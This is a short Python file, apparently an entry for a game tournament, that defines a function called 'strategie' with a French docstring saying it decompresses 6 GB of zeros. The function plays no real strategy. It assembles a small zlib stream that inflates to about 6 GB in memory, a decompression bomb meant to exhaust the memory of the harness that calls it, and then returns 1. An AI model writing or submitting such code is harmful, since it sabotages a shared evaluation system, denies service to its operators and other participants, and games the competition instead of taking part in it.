"""Décompresse 6 Go de zéros."""
import zlib
def strategie(partie, partiesPrecedentes):
    c = zlib.compressobj()
    b = c.compress(bytes(1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    m = c.compress(bytes(1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    return len(zlib.decompressobj().decompress(b + m * 6000)) and 1
